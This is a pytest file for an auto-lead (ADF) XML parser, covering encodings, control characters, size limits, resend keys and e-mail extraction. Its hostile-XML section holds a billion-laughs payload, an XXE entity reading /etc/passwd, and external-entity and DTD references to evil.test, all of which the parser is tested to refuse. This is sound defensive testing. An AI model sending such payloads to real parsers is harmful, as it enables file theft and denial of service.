"""ADF documents from outside: encodings honoured or refused with a reason, control
characters stripped, hostile XML and oversized leads refused saying which, resends
recognised by their key; and the ADF part found in an e-mail."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from app.formats.adf import (
    MAX_VEHICLES,
    AdfLead,
    decode_document,
    parse_adf,
    resend_key,
)
from app.formats.adf_mail import read_adf_mail
from app.formats.errors import AdfError


def lead_xml(
    *,
    name: str = "Ana Ruiz",
    email: str = "ana@example.com",
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>',
    vehicles: int = 1,
    comments: str = "",
) -> str:
    vehicle = "<vehicle><year>2021</year><make>Honda</make><model>CR-V</model></vehicle>"
    return (
        f"{declaration}<adf><prospect><id source='cars.com'>CC-1</id>"
        "<requestdate>2026-11-01T09:15:00-05:00</requestdate>"
        f"{vehicle * vehicles}"
        f"<customer><contact><name part='full'>{name}</name><email>{email}</email></contact>"
        f"<comments>{comments}</comments></customer></prospect></adf>"
    )


def test_a_declared_encoding_is_honoured() -> None:
    text = lead_xml(name="José Núñez", declaration='<?xml version="1.0" encoding="ISO-8859-15"?>')
    (lead,) = parse_adf(text.encode("iso-8859-15"))
    assert (lead.first_name, lead.last_name) == ("José", "Núñez")


def test_latin_1_means_windows_1252_as_browsers_read_it() -> None:
    latin = "<?xml version='1.0' encoding='ISO-8859-1'?>"
    text = lead_xml(comments="“Still available?”", declaration=latin)
    (lead,) = parse_adf(text.encode("cp1252"))
    assert lead.comments == "“Still available?”"


@pytest.mark.parametrize(
    ("declaration", "reason"),
    [
        ('<?xml version="1.0" encoding="klingon-8"?>', "'klingon-8', which is not a known"),
        ('<?xml version="1.0" encoding="base64"?>', "not allowed for XML"),
        ('<?xml version="1.0" encoding="UTF-7"?>', "not allowed for XML"),
    ],
)
def test_an_unusable_declared_encoding_is_refused_with_the_reason(
    declaration: str, reason: str
) -> None:
    with pytest.raises(AdfError, match=reason):
        parse_adf(lead_xml(declaration=declaration).encode("utf-8"))


def test_bytes_that_break_the_declared_encoding_are_refused_not_guessed() -> None:
    data = lead_xml(name="José Núñez").encode("cp1252")  # says UTF-8, is not
    with pytest.raises(AdfError, match=r"declares the encoding 'UTF-8', but byte [\d,]+ \(0xe9\)"):
        parse_adf(data)


def test_the_mail_part_charset_is_used_when_the_document_declares_none() -> None:
    data = lead_xml(name="Zoë Brontë", declaration="").encode("cp1252")
    assert parse_adf(data, charset="windows-1252")[0].first_name == "Zoë"
    assert decode_document("é".encode("utf-16"), None) == "é"  # a byte-order mark wins


def test_control_characters_are_stripped() -> None:
    data = lead_xml(name="Ana\x01 Ru\x0biz&#x1;", comments="Call\x7f me&#27; today").encode()
    (lead,) = parse_adf(data)
    assert (lead.first_name, lead.last_name, lead.comments) == ("Ana", "Ruiz", "Call me today")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<adf><prospect><customer><contact><name>&lol2;</name></contact></customer></prospect></adf>"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<adf><prospect><customer><contact><name>&xxe;</name></contact></customer></prospect></adf>"""
PARAMETER_XXE = """<!DOCTYPE adf [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]>
<adf/>"""
EXTERNAL_DTD = """<!DOCTYPE adf SYSTEM "http://evil.test/adf.dtd"><adf><prospect/></adf>"""


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BILLION_LAUGHS, "billion laughs"),
        (XXE, "external entity"),
        (PARAMETER_XXE, "external entity"),
        (EXTERNAL_DTD, "external DTD"),
    ],
)
def test_hostile_xml_is_refused_saying_which_attack(document: str, reason: str) -> None:
    with pytest.raises(AdfError, match=reason) as caught:
        parse_adf(document.encode())
    assert "nothing in it was expanded or fetched" in str(caught.value)
    assert "lollol" not in str(caught.value) and "root:" not in str(caught.value)


def test_a_bare_doctype_naming_the_root_is_tolerated() -> None:
    assert parse_adf("<!DOCTYPE adf>" + lead_xml(declaration=""))[0].email == "ana@example.com"


def test_a_document_over_the_size_limit_is_not_read() -> None:
    data = lead_xml(comments="x" * 5000).encode()
    with pytest.raises(AdfError, match=r"is [\d,]+ bytes, over the limit of 4,096"):
        parse_adf(data, max_bytes=4096)
    assert parse_adf(data, max_bytes=len(data))[0].email == "ana@example.com"


def test_a_lead_with_thousands_of_vehicles_is_refused_by_count() -> None:
    with pytest.raises(AdfError, match="Prospect 1 lists 10,000 vehicles; a lead carries at most"):
        parse_adf(lead_xml(vehicles=10_000).encode(), max_bytes=10_000_000)
    assert len(parse_adf(lead_xml(vehicles=MAX_VEHICLES))[0].vehicles) == MAX_VEHICLES


def test_resend_key_is_the_same_for_a_resend_and_differs_for_another_lead() -> None:
    (first,) = parse_adf(lead_xml())
    (again,) = parse_adf(lead_xml().replace("<prospect>", "<prospect status='resend'>"))
    (other,) = parse_adf(lead_xml(email="bob@example.com"))
    assert resend_key(first) == resend_key(again) != resend_key(other)
    assert resend_key(first).startswith("adf-")
    by_phone = AdfLead(request_date="2026-11-01", mobile="+1 (313) 555-0101", last_name="X")
    same = AdfLead(request_date="2026-11-01", phone="313.555.0101", last_name="Y")
    assert resend_key(by_phone) == resend_key(same)


def mail(body: str | bytes, *, attach: bool = False, charset: str = "utf-8") -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "leads@cars.example", "bdc@dealer.example"
    message["Subject"], message["Message-ID"] = "New lead\x07", "<m1@cars.example>"
    message["Date"] = "Sun, 01 Nov 2026 09:15:00 -0500"
    if attach:
        message.set_content("A new lead is attached.\n")
        data = body if isinstance(body, bytes) else body.encode(charset)
        message.add_attachment(data, maintype="application", subtype="xml", filename="lead.xml")
    else:
        assert isinstance(body, str)
        message.set_content(f"Hello,\n\n{body}\n\n-- \nCars.example", charset=charset)
    return message.as_bytes()


def test_the_adf_document_is_found_in_the_body_or_an_attachment() -> None:
    for raw in (mail(lead_xml()), mail(lead_xml(), attach=True)):
        found = read_adf_mail(raw)
        assert found.document is not None and found.document.endswith(b"</adf>")
        assert found.document.startswith(b"<?xml")
        assert parse_adf(found.document, charset=found.charset)[0].email == "ana@example.com"
        assert (found.message_id, found.subject) == ("<m1@cars.example>", "New lead")
        assert found.date == "2026-11-01T09:15:00-05:00"
    assert read_adf_mail(mail("Buy cheap watches")).document is None
